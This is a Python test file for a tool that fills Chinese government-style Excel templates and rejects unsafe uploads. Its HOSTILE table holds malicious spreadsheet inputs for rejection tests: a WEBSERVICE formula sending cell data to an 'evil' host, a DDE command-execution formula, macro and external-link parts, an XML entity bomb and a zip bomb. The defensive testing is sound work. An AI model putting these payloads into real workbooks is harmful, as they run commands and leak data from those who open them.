"""A superior's empty sheet is filled and keeps its look; what is more than an empty sheet gets a sentence."""

from datetime import UTC, date, datetime
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.table import Table

from kernel.blank import Layout, filled, layout
from kernel.text import clean
from kernel.upload import MacroSheet, UnreadableSheet
from tests.kernel.blanks import FIRST, HEADS, SHEET, blank, repacked, saved
from tests.kernel.workbooks import take

COLUMNS = [1, 2, 4]


def lines(count):
    return [[number, f"公司{number}", "13800000000"] for number in range(1, count + 1)]


def written(data, rows, columns=COLUMNS, first=FIRST):
    """The first sheet of the filled workbook."""
    return openpyxl.load_workbook(BytesIO(filled(data, first, columns, rows))).worksheets[0]


class TestLayout:
    def test_two_lines_and_merged_cells_are_one_name_a_column(self):
        found = layout(blank(), "a.xlsx")
        assert found.heads(3, 4) == HEADS
        assert found.full == {1, 2, 3, 4, 10, 11}
        assert found.text(1, 5) == "新城区社区合伙人情况统计表"

    def test_one_line_is_one_line(self):
        assert layout(blank(), "a.xlsx").heads(4, 4)[4] == "手机"

    def test_texts_that_excel_shares_are_read(self):
        data = BytesIO()
        with xlsxwriter.Workbook(data) as book:
            sheet = book.add_worksheet("表")
            sheet.write_row(2, 1, ["名称", "名称", 3])
        found = layout(data.getvalue(), "a.xlsx")
        assert found.rows == {3: {2: "名称", 3: "名称", 4: "3"}}

    def test_the_first_sheet_that_a_person_sees(self):
        book = openpyxl.load_workbook(BytesIO(blank()))
        hidden = book.create_sheet("说明", 0)
        hidden["A1"], hidden.sheet_state = "看不见", "hidden"
        book.active = 1
        assert layout(saved(book), "a.xlsx").text(2, 1) == "填报单位："

    def test_sheets_whose_names_have_a_prefix(self):
        def prefixed(xml):
            text = xml.decode().replace('xmlns="', 'xmlns:x="')
            for name in "worksheet sheetData row c v f is t mergeCells mergeCell dimension".split():
                for end in (" ", ">", "/"):
                    text = text.replace(f"<{name}{end}", f"<x:{name}{end}").replace(
                        f"</{name}{end}", f"</x:{name}{end}"
                    )
            return text.encode()

        data = BytesIO()
        with xlsxwriter.Workbook(data) as book:
            book.add_worksheet().write_row(0, 0, ["序号", "单位名称"])
        odd = repacked(data.getvalue(), **{SHEET: prefixed})
        assert layout(odd, "a.xlsx").heads(1, 1) == {1: "序号", 2: "单位名称"}
        assert b'<x:row r="2">' in ZipFile(BytesIO(filled(odd, 2, [1], [[1]]))).read("xl/worksheets/sheet1.xml")


class TestFilling:
    def test_rows_stand_in_their_columns_and_the_rest_is_as_it_was(self):
        sheet = written(blank(), lines(3))
        assert [[cell.value for cell in row] for row in sheet["A5:G7"]] == [
            [n, f"公司{n}", None, "13800000000", None, None, None] for n in (1, 2, 3)
        ]
        assert [sheet["A1"].value, sheet["A4"].value, sheet["A10"].value] == [
            "新城区社区合伙人情况统计表",
            None,
            "合计",
        ]
        assert sheet["A1"].font.name == "方正小标宋简体"
        assert sheet["B6"].border.left.style == "thin"
        assert (sheet.freeze_panes, sheet.row_dimensions[6].height) == ("A5", 33)
        assert {"C3:D3", "E3:F4", "E5:F5", "A11:G11"} <= {str(merged) for merged in sheet.merged_cells.ranges}

    def test_more_rows_than_it_has_push_the_foot_down(self):
        sheet = written(blank(), lines(9))
        assert [sheet[f"B{row}"].value for row in (5, 13)] == ["公司1", "公司9"]
        assert [sheet["A14"].value, sheet["A15"].value] == ["合计", "填表人：        审核人："]
        assert sheet["G14"].value == "=COUNTA(B5:B13)"
        assert {"E13:F13", "A15:G15"} <= {str(merged) for merged in sheet.merged_cells.ranges}
        assert "A11:G11" not in {str(merged) for merged in sheet.merged_cells.ranges}
        assert (sheet["B13"].border.left.style, sheet.row_dimensions[13].height) == ("thin", 33)
        assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["G5:G13"]
        assert [str(rule.sqref) for rule in sheet.conditional_formatting] == ["B5:B13"]
        assert (sheet.print_area, sheet.print_title_rows) == ("'合伙人统计表'!$A$1:$G$15", "$3:$4")
        assert sheet.dimensions == "A1:G15"

    def test_no_empty_row_at_all(self):
        sheet = written(blank(empty=0, formula="=COUNTA(B5:B9)"), lines(2))
        assert [sheet[f"A{row}"].value for row in range(5, 9)] == [1, 2, "合计", "填表人：        审核人："]

    def test_nothing_below_and_hardly_anything_above(self):
        sheet = written(blank(empty=1, foot=False), lines(40))
        assert [sheet["A44"].value, sheet["B44"].border.left.style, sheet.max_row] == [40, "thin", 44]

    def test_no_rows_leave_it_empty(self):
        before, after = (
            openpyxl.load_workbook(BytesIO(data)).active for data in (blank(), filled(blank(), 5, COLUMNS, []))
        )
        assert list(before.values) == list(after.values)
        assert sorted(map(str, before.merged_cells.ranges)) == sorted(map(str, after.merged_cells.ranges))

    def test_what_is_not_the_sheet_is_the_same_byte_for_byte(self):
        data = blank(formula="合计")
        old, new = (ZipFile(BytesIO(one)) for one in (data, filled(data, FIRST, COLUMNS, lines(2))))
        assert old.namelist() == new.namelist()
        for name in old.namelist():
            assert name == "xl/worksheets/sheet1.xml" or old.read(name) == new.read(name)

    def test_formulas_are_counted_again_on_opening(self):
        book = ZipFile(BytesIO(filled(blank(), FIRST, COLUMNS, lines(2)))).read("xl/workbook.xml")
        assert b'fullCalcOnLoad="1"' in book

    def test_values_keep_their_kind_and_text_is_never_a_formula(self):
        row = ["=1+1", 3, 1.5, date(2026, 12, 1), datetime(2026, 11, 30, 23, tzinfo=UTC), None, 10**17]
        sheet = written(blank(), [row], columns=[1, 2, 3, 4, 5, 6, 7])
        cells = sheet[5]
        assert [cell.value for cell in cells] == ["=1+1", 3, 1.5, "2026-12-01", "2026-12-01 07:00", None, str(10**17)]
        assert [cell.data_type for cell in cells[:4]] == ["s", "n", "n", "s"]

    @settings(max_examples=25, deadline=None)
    @given(
        st.integers(0, 6), st.booleans(),
        st.lists(st.tuples(st.text(max_size=20), st.integers(-(10**14), 10**14)), max_size=12),
    )  # fmt: skip
    def test_whatever_is_written_is_read_and_what_was_there_is_there(self, empty, foot, rows):
        data = blank(empty=empty, foot=foot, formula="人")
        out = filled(data, FIRST, [2, 1], [list(row) for row in rows])
        sheet = openpyxl.load_workbook(BytesIO(out)).active
        got = [(sheet.cell(FIRST + n, 2).value or "", sheet.cell(FIRST + n, 1).value) for n in range(len(rows))]
        assert [(text.replace("_x005F_x", "_x"), number) for text, number in got] == [(clean(t), n) for t, n in rows]
        assert [sheet["A1"].value, sheet["C4"].value] == ["新城区社区合伙人情况统计表", "联系人"]
        at = FIRST + max(empty, len(rows))
        assert [sheet.cell(at, 1).value, sheet.cell(at + 1, 1).value] == (
            ["合计", "填表人：        审核人："] if foot else [None] * 2
        )

    def test_our_own_reader_reads_it_too(self):
        out = filled(blank(), FIRST, COLUMNS, lines(7))
        columns = {"number": ["序号"], "name": ["单位名称"]}
        assert [row["name"] for row in take(out, "a.xlsx", columns).rows][:7] == [f"公司{n}" for n in range(1, 8)]

    def test_five_thousand_rows(self):
        sheet = written(blank(), [[n, "公司", "1"] * 3 for n in range(5_000)], columns=range(1, 10))
        assert sheet["A5005"].value == "合计"


def formula(text):
    return blank(formula=text)


def other_sheet(text):
    book = openpyxl.load_workbook(BytesIO(blank()))
    book.create_sheet("汇总")["A1"] = text
    return saved(book)


def with_table():
    book = openpyxl.Workbook()
    book.active.append(["序号", "名称"])
    book.active.append([None, None])
    book.active.add_table(Table(displayName="t", ref="A1:B2"))
    return saved(book)


def long():
    """A sheet with six thousand rows of text below its foot."""
    row = '<row r="{}"><c r="A{}" t="inlineStr"><is><t>x</t></is></c></row>'
    rows = "".join(row.format(number, number) for number in range(12, 6_000)).encode()
    return repacked(blank(), **{SHEET: lambda was: was.replace(b"</sheetData>", rows + b"</sheetData>")})


def entities():
    """A sheet that grows when it is read."""
    return repacked(blank(), **{SHEET: b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'})


def typed():
    """A program that only the table of contents tells of."""
    return repacked(blank(), **{"[Content_Types]_dot_xml": lambda was: was + b"<!--macroEnabled-->"})


HOSTILE = {
    "a program": (lambda: repacked(blank(), xl__vbaProject_dot_bin=b"x"), "带宏"),
    "a program by its type": (typed, "带宏"),
    "links": (lambda: repacked(blank(), xl__externalLinks__externalLink1_dot_xml=b"<x/>"), "连着别处"),
    "a query": (lambda: repacked(blank(), xl__connections_dot_xml=b"<x/>"), "连着别处"),
    "a file inside": (lambda: repacked(blank(), xl__embeddings__oleObject1_dot_bin=b"x"), "嵌着"),
    "a table": (with_table, "转换为普通区域"),
    "a formula that fetches": (lambda: formula('=WEBSERVICE("http://evil/?"&B5)'), "G10 的公式"),
    "a formula that runs": (lambda: formula("=cmd|'/c calc'!A0"), "G10 的公式"),
    "a formula of another file": (lambda: formula("=[1]Sheet1!A1"), "G10 的公式"),
    "a formula elsewhere that fetches": (lambda: other_sheet('=HYPERLINK("http://evil")'), "A1 的公式"),
    "a formula elsewhere about this sheet": (lambda: other_sheet("=合伙人统计表!B5"), "A1 的公式引用"),
    "too many rows": (long, "太大"),
    "a bomb": (lambda: repacked(blank(), xl__media__x_dot_bin=b"\0" * 40_000_000), "太大"),
    "entities": (entities, "读不出来"),
    "no sheet": (lambda: repacked(blank(), **{SHEET: b"\0\1\2"}), "读不出来"),
    "no workbook": (lambda: b"PK\x03\x04 and nothing else", "读不出来"),
    "text": (lambda: "序号,名称".encode(), "xlsx"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_more_than_an_empty_sheet_gets_a_sentence(name):
    made, sentence = HOSTILE[name]
    data = made()
    with pytest.raises(UnreadableSheet) as refused:
        layout(data, "a.xlsx")
    assert sentence in str(refused.value)
    assert str(refused.value).endswith("。")


def test_names_of_files_that_cannot_be_kept():
    for name, kind in (
        ("a.xlsm", MacroSheet),
        ("a.xls", UnreadableSheet),
        ("a.csv", UnreadableSheet),
        ("a", UnreadableSheet),
    ):
        with pytest.raises(kind):
            layout(blank(), name)


def test_what_superiors_count_with_is_let_in():
    for text in ("=SUM(G5:G9)", '=IF(COUNTA(B5:B9)=0,"",COUNTA(B5:B9))', "=TODAY()", "=ROW()-4", "=Sheet2!A1+1"):
        assert isinstance(layout(formula(text), "a.xlsx"), Layout)
